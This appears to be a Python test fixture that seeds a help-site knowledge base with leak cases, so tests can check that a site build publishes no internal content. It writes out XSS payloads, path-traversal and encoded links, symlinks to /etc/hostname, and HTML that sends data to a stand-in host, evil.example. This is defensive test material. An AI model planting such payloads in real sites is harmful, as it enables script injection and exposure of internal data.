"""A KB seeded with every way a public article has leaked, or could leak, what is internal
onto the help site: attachments, symlinks (files, folders, articles, outside the repo),
paths (`../`, absolute, URL-encoded, other case), titles, hidden text and raw HTML.

Each case carries a unique marker; `kbops site build` must publish none of them (the e2e
and browser tests grep and load the built site). Visible text of the same article is the
control: it must be published, so a grep that finds nothing proves something.
"""

from __future__ import annotations

import os
from dataclasses import dataclass
from pathlib import Path

from tests.factories import article_text

INTERNAL_OWNER = "Ivy Internalowner"
OUTSIDE_OWNER = "Oscar Outsideowner"
VISIBLE = ("VISIBLE-CONTROL-PARAGRAPH", "VISIBLE-DETAILS-TEXT", "VISIBLE-LINK-TEXT", "VISIBLE-ALT-TEXT")
"""Text of the leaky article that customers should see."""


@dataclass(frozen=True)
class LeakCases:
    markers: dict[str, str]
    """Case name -> a string only that case holds (none may be published)."""
    owners: tuple[str, ...]
    article: str
    """KB-relative path of the public article that links and embeds everything."""
    public_attachment: str
    """The one attachment the site should publish (KB-relative)."""


def _marker(name: str) -> str:
    return f"LEAKMARK-{name.upper()}-7Q"


def _symlink(link: Path, target: Path | str) -> None:
    link.parent.mkdir(parents=True, exist_ok=True)
    os.symlink(target, link)


def _write(path: Path, text: str) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)


LEAKY_BODY = """Intro for customers: VISIBLE-CONTROL-PARAGRAPH.

## Files

- [internal ledger](attachments/internal-secrets/ledger.csv) and ![chart](attachments/internal-secrets/chart.png)
- [draft plan](attachments/upcoming-feature/plan.pdf) and [loose notes](notes/agent-notes.csv)
- [own file, symlink to an internal article](attachments/leaky-guide/internal.txt)
- [own file, symlink outside the repo](attachments/leaky-guide/outside.txt)
- [own file, symlink to a system file](attachments/leaky-guide/host.txt)
- [symlinked folder](attachments/leaky-guide/shared/ledger.csv) and [folder outside](attachments/leaky-guide/outdir/secret.txt)
- [parent path](../kb/internal-secrets.md) and [dot path](notes/../internal-secrets.md) and [outside](../../outside/secret.txt)
- [absolute](/internal-secrets.md), [absolute file](/attachments/internal-secrets/ledger.csv), [root](/etc/hostname)
- [encoded](internal%2Dsecrets.md), [encoded file](attachments%2Finternal-secrets%2Fledger.csv), [encoded up](%2E%2E/%2E%2E/outside/secret.txt)
- [case](Internal-Secrets.md), [case file](attachments/Internal-Secrets/ledger.csv), [upper suffix](playbook.MD)
- [markdown attachment](attachments/leaky-guide/copy.md) and [page](attachments/leaky-guide/page.html)
- [symlinked article](symlinked-public.md) and [alias](alias-internal.md)
- [reference link][ledger] and ![reference image][chart]
- ![VISIBLE-ALT-TEXT](attachments/leaky-guide/ok.png "{image_title}")
- [VISIBLE-LINK-TEXT](attachments/leaky-guide/ok.png "{link_title}")

[ledger]: attachments/internal-secrets/ledger.csv "{ref_title}"
[chart]: attachments/internal-secrets/chart.png

## Raw HTML

<a href="javascript:alert('{js_href}')">click me</a> <a href="JaVaScRiPt&#58;alert('{js_entity}')">again</a>
<img src=x onerror="alert('{onerror}')"> <svg onload="alert('{svg_onload}')"><text>{svg_text}</text></svg>
<iframe src="https://evil.example/{iframe_src}">{iframe_body}</iframe>
<script>alert('{script}')</script>
<style>.secret-note {{ display: none }}</style>
<p class="secret-note">{style_hidden}</p>
<div hidden>{hidden_attribute}</div>
<span style="display:none">{display_none}</span> <span style="font-size:0">{zero_size}</span>
<span style="opacity:0">{opacity}</span> <span style="position:absolute; left:-9999px">{offscreen}</span>
<template>{template}</template> <noscript>{noscript}</noscript>
<object data="attachments/internal-secrets/ledger.csv">{object_body}</object>
<form action="https://evil.example/collect"><input type="hidden" name="k" value="{hidden_input}"></form>
<a href="attachments/internal-secrets/{raw_link_path}.csv">raw link</a>
<img src="attachments/internal-secrets/chart.png" alt="raw image">
<a href="data:text/html,{data_url}">data link</a>
<meta http-equiv="refresh" content="0;url=https://evil.example/{meta_refresh}">
<base href="https://evil.example/{base_href}/">
<a href="https://help.example/" title="{html_title}">a titled link</a>
<abbr title="Single sign-on">SSO</abbr> is kept.

[markdown javascript](javascript:alert('{md_javascript}'))

Attribute list paragraph.
{{: onclick="alert('{attr_list_handler}')" style="display:none" }}

<details><summary>More</summary>VISIBLE-DETAILS-TEXT</details>

Note for agents <!-- {comment} --> ends here.

`<!-- inside code is fine -->`

<!-- unclosed comment: {unclosed}

Everything after the unclosed comment is hidden too: {after_unclosed}.
"""


TITLE_BODY = """Titles and headings reach the theme's templates, which do not escape them.

## Heading {: data-toc-label="<img src=x onerror=alert(3)>" }

Text.

## &lt;script&gt;alert(4)&lt;/script&gt;

More text.
"""


def seed_leak_cases(project: Path, outside: Path) -> LeakCases:
    """Add the cases to the project's `kb/`; `outside` is a folder outside the project."""
    kb = project / "kb"
    names = [
        "internal_body", "internal_attachment", "internal_chart", "draft_attachment", "loose_file",
        "outside_file", "outside_article", "upper_suffix", "markdown_attachment", "html_attachment",
        "image_title", "link_title", "ref_title", "js_href", "js_entity", "onerror", "svg_onload",
        "svg_text", "iframe_src", "iframe_body", "script", "style_hidden", "hidden_attribute",
        "display_none", "zero_size", "opacity", "offscreen", "template", "noscript", "object_body",
        "hidden_input", "raw_link_path", "data_url", "meta_refresh", "base_href", "html_title",
        "md_javascript", "attr_list_handler", "comment", "unclosed", "after_unclosed",
    ]
    markers = {name: _marker(name) for name in names}

    _write(outside / "secret.txt", f"outside the repo: {markers['outside_file']}\n")
    _write(outside / "leak.md", article_text(
        "outside-article", body=f"Outside: {markers['outside_article']}\n", owner=f'"{OUTSIDE_OWNER}"',
        title="Outside article that claims to be public"))
    _write(kb / "internal-secrets.md", article_text(
        "internal-secrets", body=f"Internal only: {markers['internal_body']}\n", audience="internal",
        owner=f'"{INTERNAL_OWNER}"', title="Secret internal procedures"))
    _write(kb / "upcoming-feature.md", article_text("upcoming-feature", status="draft", title="Upcoming feature plan"))
    _write(kb / "attachments" / "internal-secrets" / "ledger.csv", f"account,amount\n{markers['internal_attachment']},49\n")
    _write(kb / "attachments" / "internal-secrets" / "chart.png", f"PNG {markers['internal_chart']}")
    _write(kb / "attachments" / "upcoming-feature" / "plan.pdf", f"PDF {markers['draft_attachment']}")
    _write(kb / "notes" / "agent-notes.csv", f"note\n{markers['loose_file']}\n")
    _write(kb / "playbook.MD", article_text("playbook-upper", body=markers["upper_suffix"], audience="internal"))

    own = kb / "attachments" / "leaky-guide"
    _write(own / "ok.png", "PNG public screenshot")
    _write(own / "copy.md", f"# copy\n{markers['markdown_attachment']}\n")
    _write(own / "page.html", f"<script>alert(1)</script>{markers['html_attachment']}")
    _symlink(own / "internal.txt", "../../internal-secrets.md")
    _symlink(own / "outside.txt", outside / "secret.txt")
    _symlink(own / "host.txt", "/etc/hostname")
    _symlink(own / "shared", "../internal-secrets")
    _symlink(own / "outdir", outside)
    _symlink(kb / "symlinked-public.md", outside / "leak.md")
    _symlink(kb / "alias-internal.md", "internal-secrets.md")
    _symlink(kb / "mirror", outside)

    _write(kb / "title-injection.md", article_text(
        "title-injection", title="'Invoices <img src=x onerror=alert(1)> & \"quotes\"'",
        summary="'Summary \"><script>alert(2)</script>'", tags='[billing, "<b onclick=alert(5)>bold</b>"]',
        body=TITLE_BODY))

    body = LEAKY_BODY.format(**markers)
    _write(kb / "leaky-guide.md", article_text("leaky-guide", body=body, title="Leaky guide for customers"))
    return LeakCases(markers, (INTERNAL_OWNER, OUTSIDE_OWNER), "kb/leaky-guide.md", "attachments/leaky-guide/ok.png")
